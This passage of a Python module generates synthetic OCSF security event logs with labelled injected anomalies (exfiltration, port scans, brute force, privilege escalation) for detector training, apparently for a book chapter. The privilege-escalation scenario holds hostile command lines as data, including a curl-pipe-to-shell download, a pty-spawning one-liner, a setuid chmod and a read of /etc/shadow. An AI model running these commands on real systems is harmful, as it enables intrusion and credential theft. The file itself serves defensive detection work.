        size_median[mask] = np.array([t[1] for t in types], dtype=float)[pick]
    stem = _pick(_FILE_STEMS, rng.integers(0, len(_FILE_STEMS), size=n))
    number = rng.integers(1, 40, size=n)
    file_name = np.array([f"{s}_{k}.{e}" for s, k, e in zip(stem, number, ext)], dtype=object)
    directory = rng.choice(len(_FILE_DIRS), size=n, p=(0.4, 0.25, 0.3, 0.05))
    names = world.user_name[users]
    path = np.array(
        [_FILE_DIRS[d].format(user=u, dept=dp) + "/" + f for d, u, dp, f in zip(directory, names, dept, file_name)],
        dtype=object,
    )
    activity = rng.choice((2, 14, 3, 1, 4, 5), size=n, p=(0.35, 0.2, 0.18, 0.15, 0.07, 0.05))
    failed = rng.random(n) < 0.01
    return {
        "time": _user_times(rng, world, users, start_ms, days),
        "activity_id": activity,
        "status_id": np.where(failed, 2, 1),
        "severity_id": np.where(failed, 2, 1),
        "actor.user.name": names,
        "device.hostname": world.hostname[users],
        "file.name": file_name,
        "file.path": path,
        "file.size": _lognormal_int(rng, size_median, 0.8, n, minimum=0),
        "file.type_id": np.ones(n, dtype=np.int64),
        "file.type": _const("Regular File", n),
    }


_BUILDERS: dict[int, Callable[..., Block]] = {
    3002: _authentication, 4001: _network, 4002: _http, 6003: _api, 1007: _process, 1001: _file,
}

# --------------------------------------------------------------------------------------------
# Injected scenarios: each returns [(class_uid, block)] with exactly `count` events in total
# --------------------------------------------------------------------------------------------


def _campaign_starts(rng: np.random.Generator, count: int, size: int, start_ms: int, days: int,
                     margin_ms: int = 2 * MS_PER_HOUR) -> tuple[np.ndarray, np.ndarray]:
    """Campaign index of each of ``count`` events and a start time per campaign."""
    campaign = np.arange(count) // size
    starts = start_ms + rng.integers(0, max(days * MS_PER_DAY - margin_ms, 1), size=int(campaign.max()) + 1)
    return campaign, starts


def _exfiltration(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
    """Huge uploads at night from one workstation to a rare external address."""
    block = _network(rng, world, count, start_ms, days)
    campaign, _ = _campaign_starts(rng, count, _SCENARIO_PLAN["data_exfiltration"][2], start_ms, days)
    n_campaigns = int(campaign.max()) + 1
    victims = rng.choice(world.num_users, size=n_campaigns, replace=False)
    day = rng.integers(0, days, size=n_campaigns)
    night = (world.work_start_utc[victims] + world.work_hours[victims] + rng.uniform(3, 6, n_campaigns)) % 24
    t0 = start_ms + day * MS_PER_DAY + (night * MS_PER_HOUR).astype(np.int64)
    rare_ip = np.array([f"203.0.113.{x}" for x in rng.integers(1, 250, size=n_campaigns)], dtype=object)
    user = victims[campaign]
    block.update({
        "time": t0[campaign] + rng.integers(0, 2 * MS_PER_HOUR, size=count),
        "activity_id": rng.choice((6, 2), size=count),
        "status_id": np.ones(count, dtype=np.int64),
        "severity_id": np.ones(count, dtype=np.int64),
        "duration": rng.integers(600_000, 3_600_000, size=count),
        "src_endpoint.ip": world.ip[user],
        "dst_endpoint.ip": rare_ip[campaign],
        "dst_endpoint.port": np.full(count, 443),
        "dst_endpoint.svc_name": _const("https", count),
        "connection_info.protocol_name": _const("tcp", count),
        "connection_info.direction_id": np.full(count, 2),
        "connection_info.direction": _const("Outbound", count),
        "traffic.bytes_out": _lognormal_int(rng, 3e9, 0.5, count),
        "traffic.bytes_in": _lognormal_int(rng, 2e5, 0.5, count),
    })
    block["traffic.packets_out"] = block["traffic.bytes_out"] // 1200 + 1
    block["traffic.packets_in"] = block["traffic.bytes_in"] // 1200 + 1
    return [(4001, block)]


def _port_scan(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
    """Hundreds of refused or reset connections from one host to many ports of one server."""
    block = _network(rng, world, count, start_ms, days)
    campaign, t0 = _campaign_starts(rng, count, _SCENARIO_PLAN["port_scan"][2], start_ms, days)
    n_campaigns = len(t0)
    scanners = rng.choice(world.num_users, size=n_campaigns)
    targets = _pick(tuple(SERVERS.values()), rng.integers(0, len(SERVERS), size=n_campaigns))
    ports = np.concatenate([rng.permutation(np.arange(1, 1025)) for _ in range(n_campaigns)])[:count]
    ports = np.where(rng.random(count) < 0.15, rng.integers(1025, 65536, size=count), ports)
    activity = rng.choice((5, 3, 1), size=count, p=(0.7, 0.25, 0.05))
    block.update({
        "time": t0[campaign] + rng.integers(0, 5 * 60_000, size=count),
        "activity_id": activity,
        "status_id": np.where(activity == 5, 2, 1),
        "severity_id": np.where(activity == 5, 2, 1),
        "duration": rng.integers(0, 4, size=count),
        "src_endpoint.ip": world.ip[scanners][campaign],
        "dst_endpoint.ip": targets[campaign],
        "dst_endpoint.port": ports,
        "dst_endpoint.svc_name": np.array([_WELL_KNOWN_SERVICES.get(int(p), "unknown") for p in ports], dtype=object),
        "connection_info.protocol_name": _const("tcp", count),
        "connection_info.direction_id": np.full(count, 3),
        "connection_info.direction": _const("Lateral", count),
        "traffic.bytes_out": rng.integers(40, 80, size=count),
        "traffic.bytes_in": rng.integers(0, 60, size=count),
        "traffic.packets_out": np.ones(count, dtype=np.int64),
        "traffic.packets_in": rng.integers(0, 2, size=count),
    })
    return [(4001, block)]


def _latency_storm(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
    """Half an hour of 503/504 answers with seconds of latency from the orders service."""
    service = [s[0] for s in HTTP_SERVICES].index("orders-api")
    block = _http(rng, world, count, start_ms, days, service=service)
    campaign, t0 = _campaign_starts(rng, count, _SCENARIO_PLAN["latency_error_storm"][2], start_ms, days)
    code = rng.choice((503, 504, 500), size=count, p=(0.6, 0.3, 0.1))
    block.update({
        "time": t0[campaign] + rng.integers(0, 30 * 60_000, size=count),
        "status_id": np.full(count, 2),
        "severity_id": np.full(count, 3),
        "http_response.code": code,
        "http_response.latency": rng.integers(2_000, 30_000, size=count),
    })
    return [(4002, block)]


def _brute_force(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
    """Bursts of failed network logons against many accounts from one external address."""
    block = _authentication(rng, world, count, start_ms, days)
    campaign, t0 = _campaign_starts(rng, count, _SCENARIO_PLAN["brute_force"][2], start_ms, days)
    n_campaigns = len(t0)
    attacker_ip = np.array([f"192.0.2.{x}" for x in rng.integers(1, 250, size=n_campaigns)], dtype=object)
    attacker_country = _pick(ATTACKER_COUNTRIES, rng.integers(0, len(ATTACKER_COUNTRIES), size=n_campaigns))
    generic = np.array(("admin", "administrator", "root", "test", "guest", "oracle", "backup"), dtype=object)
    names = np.where(rng.random(count) < 0.5, world.user_name[rng.integers(0, world.num_users, size=count)],
                     generic[rng.integers(0, len(generic), size=count)])
    protocol = rng.choice((11, 1), size=count)
    block.update({
        "time": t0[campaign] + rng.integers(0, 10 * 60_000, size=count),
        "activity_id": np.ones(count, dtype=np.int64),
        "status_id": np.full(count, 2),
        "severity_id": np.full(count, 2),
        "duration": _lognormal_int(rng, 15.0, 0.5, count),
        "user.name": names,
        "src_endpoint.ip": attacker_ip[campaign],
        "src_endpoint.location.country": attacker_country[campaign],
        "dst_endpoint.hostname": _const("sso", count),
        "dst_endpoint.ip": _const(SERVERS["sso"], count),
        "dst_endpoint.svc_name": _const("sso", count),
        "auth_protocol_id": protocol,
        "auth_protocol": _lookup(AUTH_PROTOCOL_NAMES, protocol),
        "logon_type_id": np.full(count, 3),
        "logon_type": _const(LOGON_TYPE_NAMES[3], count),
        "is_mfa": np.zeros(count, dtype=bool),
        "is_remote": np.ones(count, dtype=bool),
    })
    return [(3002, block)]


def _privilege_escalation(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
    """The web server spawns a shell that fetches a script, calls setuid root and reads /etc/shadow."""
    chain = (  # parent, name, cmd_line, process user, actor, activity
        ("nginx", "sh", "sh -c curl -s http://203.0.113.66/x.sh | sh", "www-data", "www-data", 1),
        ("sh", "curl", "curl -s http://203.0.113.66/x.sh", "www-data", "www-data", 1),
        ("sh", "python3", "python3 -c import pty; pty.spawn('/bin/bash')", "www-data", "www-data", 1),
        ("python3", "bash", "/bin/bash -i", "root", "www-data", 5),
        ("bash", "chmod", "chmod u+s /tmp/.x", "root", "root", 1),
    )
    size = _SCENARIO_PLAN["privilege_escalation"][2]
    step = np.arange(count) % size
    is_process = step < len(chain)
    campaign, t0 = _campaign_starts(rng, count, size, start_ms, days)
    host = _pick(("web01", "web02"), rng.integers(0, 2, size=len(t0)))[campaign]
    times = t0[campaign] + step * rng.integers(2_000, 40_000, size=count)
    out: list[tuple[int, Block]] = []
    p = np.flatnonzero(is_process)
    if len(p):
        parent, name, cmd, user, actor, activity = (np.array(c, dtype=object) for c in zip(*chain))
        s = step[p]
        block = _process(rng, world, len(p), start_ms, days)
        block.update({
            "time": times[p], "activity_id": activity[s].astype(np.int64),
            "actor.user.name": actor[s], "device.hostname": host[p], "process.name": name[s],
            "process.cmd_line": cmd[s], "process.user.name": user[s],
            "process.parent_process.name": parent[s],
        })
        out.append((1007, block))
    f = np.flatnonzero(~is_process)
    if len(f):
        block = _file(rng, world, len(f), start_ms, days)
        block.update({
            "time": times[f], "activity_id": np.full(len(f), 2),
            "actor.user.name": _const("root", len(f)), "device.hostname": host[f],
            "file.name": _const("shadow", len(f)), "file.path": _const("/etc/shadow", len(f)),
            "file.size": rng.integers(900, 1_600, size=len(f)),
        })
        out.append((1001, block))
    return out


def _off_hours_logon(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
    """A logon in the user's night from a new country without MFA, then a run of API reads."""
    size = _SCENARIO_PLAN["off_hours_new_country"][2]
    campaign = np.arange(count) // size
    step = np.arange(count) % size
    n_campaigns = int(campaign.max()) + 1
    victims = rng.choice(world.num_users, size=n_campaigns, replace=n_campaigns > world.num_users)
    day = rng.integers(0, days, size=n_campaigns)
    night = (world.work_start_utc[victims] - rng.uniform(3, 5, n_campaigns)) % 24
    t0 = start_ms + day * MS_PER_DAY + (night * MS_PER_HOUR).astype(np.int64)
    ip = np.array([f"203.0.113.{x}" for x in rng.integers(1, 250, size=n_campaigns)], dtype=object)
    country = _pick(ATTACKER_COUNTRIES, rng.integers(0, len(ATTACKER_COUNTRIES), size=n_campaigns))
    times = t0[campaign] + step * rng.integers(60_000, 300_000, size=count)
    out: list[tuple[int, Block]] = []
    a = np.flatnonzero(step == 0)
    block = _authentication(rng, world, len(a), start_ms, days)
    c = campaign[a]
    block.update({
        "time": times[a], "activity_id": np.ones(len(a), dtype=np.int64),
        "status_id": np.ones(len(a), dtype=np.int64), "severity_id": np.ones(len(a), dtype=np.int64),
        "user.name": world.user_name[victims[c]], "src_endpoint.ip": ip[c],
        "src_endpoint.location.country": country[c], "dst_endpoint.hostname": _const("sso", len(a)),
        "dst_endpoint.ip": _const(SERVERS["sso"], len(a)), "dst_endpoint.svc_name": _const("sso", len(a)),
        "auth_protocol_id": np.full(len(a), 5), "auth_protocol": _const("SAML", len(a)),
        "logon_type_id": np.full(len(a), 3), "logon_type": _const(LOGON_TYPE_NAMES[3], len(a)),
        "is_mfa": np.zeros(len(a), dtype=bool), "is_remote": np.ones(len(a), dtype=bool),
    })
    out.append((3002, block))
    r = np.flatnonzero(step > 0)
    if len(r):
        block = _api(rng, world, len(r), start_ms, days)
        c = campaign[r]
        op = rng.integers(0, len(_RECON_OPERATIONS), size=len(r))
        block.update({
            "time": times[r], "activity_id": np.full(len(r), 2),
            "status_id": np.ones(len(r), dtype=np.int64), "severity_id": np.ones(len(r), dtype=np.int64),
            "actor.user.name": world.user_name[victims[c]], "src_endpoint.ip": ip[c],
            "api.service.name": _pick([o[0] for o in _RECON_OPERATIONS], op),
            "api.operation": _pick([o[1] for o in _RECON_OPERATIONS], op),
        })
        out.append((6003, block))
    return out


def _latency_drift(rng, world, count, start_ms, days) -> list[tuple[int, Block]]:
    """The search service slowly gets slower (x1.5 to x3) over the second half of the period."""
    service = [s[0] for s in HTTP_SERVICES].index("search")
    block = _http(rng, world, count, start_ms, days, service=service)
    half = start_ms + days * MS_PER_DAY // 2
    end = start_ms + days * MS_PER_DAY
    times = half + rng.integers(0, end - half, size=count)
    progress = (times - half) / (end - half)
    block["time"] = times
    block["http_response.latency"] = np.maximum(
        np.rint(block["http_response.latency"] * (1.5 + 1.5 * progress)), 1).astype(np.int64)
    return [(4002, block)]


_SCENARIO_BUILDERS: dict[str, Callable[..., list[tuple[int, Block]]]] = {
    "data_exfiltration": _exfiltration,
    "port_scan": _port_scan,
    "latency_error_storm": _latency_storm,
    "brute_force": _brute_force,
    "privilege_escalation": _privilege_escalation,
    "off_hours_new_country": _off_hours_logon,
    "latency_drift": _latency_drift,
}


def scenario_counts(num_events: int) -> dict[str, int]:
    """Number of events each scenario injects into an evaluation period of ``num_events``.

    Chapter "The OCSF pipeline".
    """
    return {name: max(minimum, int(round(share * num_events)))
            for name, (share, minimum, _) in _SCENARIO_PLAN.items()}


# --------------------------------------------------------------------------------------------
# Assembling blocks into one flat table, and back into nested events
# --------------------------------------------------------------------------------------------

_BASE_COLUMNS = (
    "time", "class_uid", "class_name", "category_uid", "category_name", "activity_id",
    "activity_name", "type_uid", "type_name", "severity_id", "severity", "status_id", "status",
    "duration", "metadata.uid", "metadata.version", "metadata.product.name",
    "metadata.product.vendor_name",
)


def _finish_block(class_uid: int, block: Block) -> Block:
    """Add the identifier arithmetic, captions and metadata every OCSF event carries."""
    n = len(block["time"])
    spec = OCSF_CLASSES[class_uid]
    activity = np.asarray(block["activity_id"], dtype=np.int64)
    class_name = spec["name"]
    activity_name = _lookup(spec["activities"], activity)
    out: Block = {
        "time": np.asarray(block["time"], dtype=np.int64),
        "class_uid": np.full(n, class_uid, dtype=np.int64),
        "class_name": _const(class_name, n),
        "category_uid": np.full(n, class_uid // 1000, dtype=np.int64),
        "category_name": _const(CATEGORY_NAMES[class_uid // 1000], n),
        "activity_id": activity,
        "activity_name": activity_name,
        "type_uid": class_uid * 100 + activity,
        "type_name": np.array([f"{class_name}: {a}" for a in spec["activities"].values()], dtype=object)[
            _index_of(tuple(spec["activities"]), activity)],
        "severity_id": np.asarray(block["severity_id"], dtype=np.int64),
        "severity": _lookup(SEVERITY_NAMES, np.asarray(block["severity_id"])),
        "status_id": np.asarray(block["status_id"], dtype=np.int64),
        "status": _lookup(STATUS_NAMES, np.asarray(block["status_id"])),
    }
    if "duration" in block:
        out["duration"] = np.asarray(block["duration"], dtype=np.int64)
    out["metadata.version"] = _const(OCSF_VERSION, n)
    out["metadata.product.name"] = _const(PRODUCT_NAME, n)
    out["metadata.product.vendor_name"] = _const(VENDOR_NAME, n)
    for key, values in block.items():
        if key not in out:
            values = np.asarray(values)
            out[key] = values.astype(np.int64) if values.dtype.kind in "iu" else values
    return out


def _uuid4_strings(rng: np.random.Generator, n: int) -> np.ndarray:
    """``n`` random (version 4) UUID strings built from the generator's bits."""
    raw = rng.integers(0, 256, size=(n, 16), dtype=np.uint8)
    raw[:, 6] = (raw[:, 6] & 0x0F) | 0x40
    raw[:, 8] = (raw[:, 8] & 0x3F) | 0x80
    h = raw.tobytes().hex()
    return np.array(
        [f"{h[i:i + 8]}-{h[i + 8:i + 12]}-{h[i + 12:i + 16]}-{h[i + 16:i + 20]}-{h[i + 20:i + 32]}"
         for i in range(0, 32 * n, 32)],
        dtype=object,
    )


def _assemble(blocks: list[tuple[Block, str]], rng: np.random.Generator) -> tuple[pd.DataFrame, pd.DataFrame]:
    """Stack per-class blocks into one time-ordered flat frame plus its label frame."""
    sizes = [len(b["time"]) for b, _ in blocks]
    total = sum(sizes)
    columns: list[str] = list(_BASE_COLUMNS)
    for block, _ in blocks:
        columns.extend(k for k in block if k not in columns)
    order = np.argsort(np.concatenate([b["time"] for b, _ in blocks]), kind="stable")
    uids = _uuid4_strings(rng, total)
    data: dict[str, Any] = {}
    offsets = np.cumsum([0] + sizes)
    for col in columns:
        if col == "metadata.uid":
            data[col] = uids
            continue
        present = [b for b, _ in blocks if col in b]
        sample = present[0][col]
        if len(present) == len(blocks):
            values = np.concatenate([b[col] for b, _ in blocks])[order]
            data[col] = values
            continue
        mask = np.zeros(total, dtype=bool)
        if sample.dtype.kind == "O":
            values = np.full(total, None, dtype=object)
        else:
            values = np.zeros(total, dtype=sample.dtype)
        for (block, _), lo, hi in zip(blocks, offsets[:-1], offsets[1:]):
            if col in block:
                values[lo:hi] = block[col]
                mask[lo:hi] = True
        values, mask = values[order], mask[order]
        if sample.dtype.kind in "iu":
            data[col] = pd.arrays.IntegerArray(values.astype(np.int64), ~mask)
        elif sample.dtype.kind == "b":
            data[col] = pd.arrays.BooleanArray(values, ~mask)
        elif sample.dtype.kind == "f":
            data[col] = np.where(mask, values, np.nan)
        else:
            data[col] = values
    # Strings stay object columns (None marks missing): converting to pandas' "str" dtype would
    # cost more than drawing the events.
    frame = pd.DataFrame(
        {c: pd.Series(v, dtype=object, copy=False) if getattr(v, "dtype", None) == object else v
         for c, v in data.items()},
        columns=columns, copy=False,
    )
    scenario = np.concatenate([np.full(len(b["time"]), s, dtype=object) for b, s in blocks])[order]
    labels = pd.DataFrame({
        "uid": pd.Series(uids, dtype=object),
        "is_anomaly": scenario != "normal",
        "scenario": pd.Series(scenario, dtype=object),
    })
    return frame, labels


@contextmanager
def gc_paused() -> Iterator[None]:
    """Pause Python's cyclic garbage collector while building many small containers.

    Building 100k nested dicts triggers dozens of full collections that find nothing (the
    dicts hold no reference cycles) and double the run time; the previous state is restored.
    """
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        yield
    finally:
        if was_enabled:
            gc.enable()


def frame_to_events(frame: pd.DataFrame) -> list[dict[str, Any]]:
    """Nested OCSF dictionaries from a flat frame of dotted columns (missing values are omitted).

    Chapter "The OCSF pipeline".

    Rows are grouped by which columns they fill (in a mixed-class table that is mostly by
    class), and each group is built column by column, so the Python work per event is one
    ``dict`` per nested object. Integers come back as ``int``, booleans as ``bool``.
    """
    n = len(frame)
    if n == 0:
        return []
    columns = [str(c) for c in frame.columns]
    parts = [tuple(c.split(".")) for c in columns]
    present = frame.notna().to_numpy()  # (n, C) bool
    packed = np.packbits(present, axis=1)  # (n, ceil(C / 8)) uint8
    row_keys = np.ascontiguousarray(packed).view(f"S{packed.shape[1]}").ravel()  # (n,) one key per row
    patterns, inverse = np.unique(row_keys, return_inverse=True)
    out: list[Any] = [None] * n
    arrays = [_plain_values(frame.iloc[:, i]) for i in range(frame.shape[1])]
    with gc_paused():
        for g in range(len(patterns)):
            rows = np.flatnonzero(inverse == g)
            cols = np.flatnonzero(present[rows[0]])
            values = [arrays[c][rows].tolist() for c in cols]
            events = _build_nested([parts[c] for c in cols], values, len(rows))
            for pos, event in zip(rows.tolist(), events):
                out[pos] = event
    return out


def _plain_values(column: pd.Series) -> np.ndarray:
    """A numpy array whose ``tolist()`` gives plain Python values (missing slots are unused)."""
    dtype = column.dtype
    if isinstance(dtype, np.dtype):
        return column.to_numpy()
    kind = getattr(dtype, "kind", "O")
    if kind in "iu":
        return column.to_numpy(dtype=np.int64 if kind == "i" else np.uint64, na_value=0)
    if kind == "b":
        return column.to_numpy(dtype=bool, na_value=False)
    if kind == "f":
        return column.to_numpy(dtype=np.float64, na_value=np.nan)
    return column.to_numpy(dtype=object)


def _build_nested(paths: list[tuple[str, ...]], values: list[list], n: int) -> list[dict]:
    """Build ``n`` nested dicts from column lists; ``paths`` are the split dotted names."""
    keys: list[str] = []
    leaves: dict[str, list] = {}
    children: dict[str, tuple[list, list]] = {}
    for path, column in zip(paths, values):
        head = path[0]
        if head not in leaves and head not in children:
            keys.append(head)
        if len(path) == 1:
            if head in children:
                raise ValueError(f"column {head!r} is both a value and an object in the same row")
            leaves[head] = column
        else:
            if head in leaves:
                raise ValueError(f"column {head!r} is both a value and an object in the same row")
            children.setdefault(head, ([], []))
            children[head][0].append(path[1:])
            children[head][1].append(column)
    columns = [leaves[k] if k in leaves else _build_nested(*children[k], n) for k in keys]
    if not columns:
        return [{} for _ in range(n)]
    return list(map(dict, map(zip, repeat(keys), zip(*columns))))


# --------------------------------------------------------------------------------------------
# Public generator API
# --------------------------------------------------------------------------------------------


@dataclass
class GeneratedEvents:
    """Output of :func:`generate_ocsf_events` (chapter "The OCSF pipeline").

    ``frame`` is the flat table (one row per event, dotted OCSF columns, time-ordered);
    ``labels`` has one row per event: ``uid`` (= ``metadata.uid``), ``is_anomaly`` and
    ``scenario`` (``"normal"`` or one of :data:`SCENARIOS`). Labels are never inside events.
    """

    frame: pd.DataFrame
    labels: pd.DataFrame
    start: dt.datetime
    days: int
    seed: int
    anomalies: bool

    def __len__(self) -> int:
        return len(self.frame)

    def to_events(self) -> list[dict[str, Any]]:
        """The events as nested OCSF dictionaries (JSON-ready, same order as ``frame``)."""
        return frame_to_events(self.frame)

    def scenario_counts(self) -> dict[str, int]:
        """Number of events per label (``"normal"`` included)."""
        return {str(k): int(v) for k, v in self.labels["scenario"].value_counts(sort=False).items()}


def generate_ocsf_events(
    num_events: int = 10_000,
    days: int = 7,
    seed: int = 0,
    anomalies: bool = True,
    start: dt.datetime = DEFAULT_START,
    num_users: int = 200,
    world_seed: int = 0,
) -> GeneratedEvents:
    """Generate ``num_events`` OCSF 1.8.0 events over ``days`` days from ``start`` (UTC).

    Chapter "The OCSF pipeline".

    The organisation (users, servers, services) comes from ``world_seed``; the events from
    ``seed``; the same arguments always give byte-identical events. With ``anomalies=True``
    about 2 % of the events (exact numbers: :func:`scenario_counts`) belong to injected,
    labelled campaigns, listed roughly from easy to hard for a detector fitted on clean data:

    - ``data_exfiltration``: a workstation uploads gigabytes (``traffic.bytes_out`` around
      3e9) over hours at night to a rare external address in 203.0.113.0/24.
    - ``port_scan``: one workstation sends hundreds of connection attempts within five
      minutes to ports 1-1024 (and some high ports) of one server; most are refused (5) or
      reset (3), with a few bytes each.
    - ``latency_error_storm``: for half an hour the ``orders-api`` service answers 503, 504
      or 500 with 2-30 s of latency.
    - ``brute_force``: bursts of about 60 failed network logons within ten minutes from one
      external address (192.0.2.0/24, an unusual country) against real and generic accounts.
    - ``privilege_escalation``: on a web server, ``nginx`` spawns ``sh`` that downloads a
      script, spawns a pty, sets user id to root (activity 5 Set User ID) and reads
      ``/etc/shadow``.
    - ``off_hours_new_country``: a user logs on in the middle of their night from a new
      country and address without MFA, then reads secrets, buckets and IAM data over the API.
    - ``latency_drift`` (hard): over the second half of the period the ``search`` service's
      latency grows from x1.5 to x3 of normal; every other attribute looks normal.

    With ``anomalies=False`` the period is clean (a baseline to fit a detector on).
    """
    if num_events < 1:
        raise ValueError(f"num_events must be positive, got {num_events}")
    if days < 1:
        raise ValueError(f"days must be at least 1, got {days}")
    if start.tzinfo is None:
        raise ValueError("start must be timezone-aware (use datetime.timezone.utc)")
    counts = scenario_counts(num_events) if anomalies else {}
    num_normal = num_events - sum(counts.values())
    if num_normal < num_events // 2:
        raise ValueError(f"num_events={num_events} is too small to hold the injected scenarios; use at least 2000")
    world = build_world(num_users, world_seed)
    rng = np.random.default_rng(np.random.SeedSequence([seed, 0xE7E7]))
    start_ms = int(start.astimezone(dt.timezone.utc).timestamp() * 1000)
    per_class = rng.multinomial(num_normal, _CLASS_MIX / _CLASS_MIX.sum())
    blocks: list[tuple[Block, str]] = []
    for class_uid, n in zip(GENERATED_CLASSES, per_class):
        blocks.append((_finish_block(class_uid, _BUILDERS[class_uid](rng, world, int(n), start_ms, days)), "normal"))
    for name, count in counts.items():
        for class_uid, block in _SCENARIO_BUILDERS[name](rng, world, count, start_ms, days):
            blocks.append((_finish_block(class_uid, block), name))
    frame, labels = _assemble(blocks, rng)
    return GeneratedEvents(frame, labels, start, days, seed, anomalies)


def generate_baseline_and_evaluation(
    num_baseline: int = 20_000,
    num_evaluation: int = 10_000,
    baseline_days: int = 7,
    evaluation_days: int = 3,
    seed: int = 0,
    start: dt.datetime = DEFAULT_START,
    num_users: int = 200,
    world_seed: int = 0,
) -> tuple[GeneratedEvents, GeneratedEvents]:
    """A clean baseline period and a later evaluation period with injected scenarios.

    Chapter "The OCSF pipeline".

    Both periods share the organisation (``world_seed``); the evaluation period starts when
    the baseline ends and uses the event seed ``seed + 1``, so training and test data differ in
    time and in random draws.
    """
    baseline = generate_ocsf_events(num_baseline, baseline_days, seed, False, start, num_users, world_seed)
    evaluation = generate_ocsf_events(
        num_evaluation, evaluation_days, seed + 1, True, start + dt.timedelta(days=baseline_days),
        num_users, world_seed,
    )
    return baseline, evaluation


# --------------------------------------------------------------------------------------------
# Validation
# --------------------------------------------------------------------------------------------

_INTEGER_FIELDS = (
    "time", "class_uid", "category_uid", "activity_id", "type_uid", "severity_id", "status_id",
    "duration", "http_response.code", "http_response.latency", "traffic.bytes_in",
    "traffic.bytes_out", "traffic.packets_in", "traffic.packets_out", "src_endpoint.port",
    "dst_endpoint.port", "process.pid", "process.parent_process.pid", "file.size",
    "file.type_id", "auth_protocol_id", "logon_type_id", "connection_info.direction_id",
)
_REQUIRED_PATHS = {4002: ("http_response.code",), 6003: ("api.operation",)}


def _get_path(event: dict, path: str) -> tuple[bool, Any]:
    """``(found, value)`` for a dotted path inside a nested dict."""
    node: Any = event
    for part in path.split("."):
        if not isinstance(node, dict) or part not in node:
            return False, None
        node = node[part]
    return True, node


def _is_int(value: Any) -> bool:
    return isinstance(value, int) and not isinstance(value, bool)


def validate_event(event: dict) -> list[str]:
    """Problems with one OCSF 1.8.0 event (an empty list means valid); chapter "The OCSF pipeline".

    Checks the required base attributes and their types, the identifier arithmetic
    (``category_uid = class_uid // 1000``, ``type_uid = class_uid * 100 + activity_id``),
    allowed ``activity_id`` / ``severity_id`` / ``status_id`` values and captions,
    ``metadata.version`` and ``metadata.product``, integer typing of counters and durations,
    and, for the generator's classes, the objects the class requires (``user`` for 3002,
    ``http_response.code`` for 4002, ``api.operation`` for 6003, ``process`` for 1007, ``file``
    for 1001, ...). Classes the generator does not emit get the base checks only (their
    ``status_id`` enum may differ from the base event's, so it is not checked).
    """
    if not isinstance(event, dict):
        return [f"event is a {type(event).__name__}, not an object"]
    problems: list[str] = []
    for name in ("time", "class_uid", "category_uid", "activity_id", "type_uid", "severity_id", "metadata"):
        if name not in event:
            problems.append(f"missing required attribute {name!r}")
    for path in _INTEGER_FIELDS:
        found, value = _get_path(event, path)
        if found and not _is_int(value):
            problems.append(f"{path} must be an integer, got {value!r}")
    class_uid, activity_id = event.get("class_uid"), event.get("activity_id")
    if _is_int(class_uid):
        category = event.get("category_uid")
        if _is_int(category) and category != class_uid // 1000:
            problems.append(f"category_uid {category} does not match class_uid {class_uid} (expected {class_uid // 1000})")
        type_uid = event.get("type_uid")
        if _is_int(activity_id) and _is_int(type_uid) and type_uid != class_uid * 100 + activity_id:
            problems.append(f"type_uid {type_uid} != class_uid * 100 + activity_id = {class_uid * 100 + activity_id}")
    spec = OCSF_CLASSES.get(class_uid) if _is_int(class_uid) else None
    if spec is not None:
        if "class_name" in event and event["class_name"] != spec["name"]:
            problems.append(f"class_name {event['class_name']!r} does not match class_uid {class_uid} ({spec['name']!r})")
        if _is_int(activity_id):
            if activity_id not in spec["activities"]:
                problems.append(f"activity_id {activity_id} is not defined for class {class_uid} ({spec['name']})")
            elif "activity_name" in event and activity_id != 99 and event["activity_name"] != spec["activities"][activity_id]:
                problems.append(f"activity_name {event['activity_name']!r} does not match activity_id {activity_id}")
        for name in spec["required"]:
            if not isinstance(event.get(name), dict):
                problems.append(f"class {class_uid} ({spec['name']}) requires object {name!r}")
        for path in _REQUIRED_PATHS.get(class_uid, ()):
            if not _get_path(event, path)[0]:
                problems.append(f"class {class_uid} ({spec['name']}) requires {path!r}")
        if class_uid == 4001 and not (isinstance(event.get("src_endpoint"), dict) or isinstance(event.get("dst_endpoint"), dict)):
            problems.append("class 4001 (Network Activity) requires src_endpoint or dst_endpoint")
    # severity_id is the same enum in every class; status_id is the base event's enum only for the
    # classes checked here (Findings classes such as 2004 redefine it: 1 New, 2 In Progress, ...).
    enums = [("severity_id", SEVERITY_NAMES)] + ([("status_id", STATUS_NAMES)] if spec is not None else [])
    for field, names in enums:
        value = event.get(field)
        if _is_int(value):
            caption = field[: -len("_id")]
            if value not in names:
                problems.append(f"{field} {value} is not one of {sorted(names)}")
            elif caption in event and value != 99 and event[caption] != names[value]:
                problems.append(f"{caption} {event[caption]!r} does not match {field} {value} ({names[value]!r})")
    metadata = event.get("metadata")
    if "metadata" in event and not isinstance(metadata, dict):
        problems.append("metadata must be an object")
    elif isinstance(metadata, dict):
        if metadata.get("version") != OCSF_VERSION:
            problems.append(f"metadata.version is {metadata.get('version')!r}, expected {OCSF_VERSION!r}")
        product = metadata.get("product")
        if not isinstance(product, dict) or not (product.get("name") or product.get("vendor_name")):
            problems.append("metadata.product must be an object with a name or vendor_name")
    return problems
